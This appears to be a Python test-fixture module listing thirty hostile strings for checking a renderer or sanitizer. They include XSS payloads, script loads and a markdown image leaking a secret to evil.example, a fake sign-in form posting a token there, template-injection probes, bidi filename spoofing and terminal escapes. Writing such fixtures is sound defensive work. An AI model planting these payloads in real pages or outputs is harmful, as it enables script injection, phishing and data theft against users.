"""Thirty texts that want to be more than text."""

_RUN = "ran(1)"
HOSTILE: dict[str, str] = {
    "script": f"<script>{_RUN}</script>",
    "script that closes what it stands in": f"</textarea></div></code></pre></title><script>{_RUN}</script>",
    "script in a comment": f"--><!--><script>{_RUN}</script><!--",
    "script from elsewhere": "<script src=//evil.example/x.js></script>",
    "event handler": f"<img src=x onerror={_RUN}>",
    "event handler in an attribute": f'" onmouseover="{_RUN}" autofocus onfocus="{_RUN}" x="',
    "event handler in single quotes": f"' autofocus onfocus='{_RUN}' x='",
    "svg": f"<svg onload={_RUN}><animate onbegin={_RUN} attributeName=x dur=1s>",
    "math": f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    "details": f"<details open ontoggle={_RUN}><summary>x</summary></details>",
    "link with a script": f"<a href=javascript:{_RUN}>click</a> [click](javascript:{_RUN}) javascript:{_RUN}",
    "markdown image": "![x](http://evil.example/leak?q=secret) <http://evil.example/>",
    "frame": "<iframe srcdoc='<script>parent.ran(1)</script>' src=//evil.example/></iframe>",
    "object": f"<object data=javascript:{_RUN}></object><embed src=//evil.example/x.swf>",
    "form": "</form><form action=http://evil.example/ method=post><input name=token><button>Sign in again</button>",
    "form of the page": "</form><form action=/undo method=post><input name=seq value=1><button>Next</button></form>",
    "base": "<base href=http://evil.example/><link rel=stylesheet href=//evil.example/x.css>",
    "refresh": '<meta http-equiv="refresh" content="0; url=http://evil.example/">',
    "css": "<style>*{display:none!important}body{background:url(//evil.example/x)}</style>",
    "css over everything": '<div style="position:fixed;inset:0;z-index:9999;background:red">pay here</div>',
    "template": "{{ 7 * 7 }} {% for x in range(9) %}{{ x }}{% endfor %} {{ ''.__class__.__mro__ }} ${7*7} #{7*7}",
    "attributes of htmx": f"<div hx-get=//evil.example/ hx-trigger=load hx-on:load={_RUN} data-hx-on--load={_RUN}>x",
    "entities": f"&lt;script&gt;{_RUN}&lt;/script&gt; &#60;script&#62;{_RUN}&#60;/script&#62; &amp;lt;b&gt; &#39;",
    "overrides of direction": "\u202egnp.exe\u202c \u2066abc\u2069 \u200fright\u200e \u061cx",
    "right to left": "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 " * 8 + "/etc/passwd 123",
    "zero width": "pa\u200bss\u200cwo\u200drd\u2060 \ufeffx\u00ad y\u034f \U000e0041\U000e0042",
    "escapes of a terminal": "\x1b[2J\x1b[31mred\x1b[0m \x1b]8;;http://evil.example/\x07x\x1b]8;;\x07 \x9b2J \x08",
    "control characters": "a\x00b\x01c\x0bd\x0ce\x7ff\x85g\u2028h\u2029i \ufffe",
    "long word": "w" * 3000 + " " + "\U0001f98a" * 400,
    "stacked marks": ("Z" + "\u0301\u0316\u0317\u0334" * 40) * 6,
}
LONG_LINE = "<b>" + "0123456789 <i>&amp;\u202e" * 60_000  # A line of more than 1 MB
TAG = "<b onclick=ran(1)>"
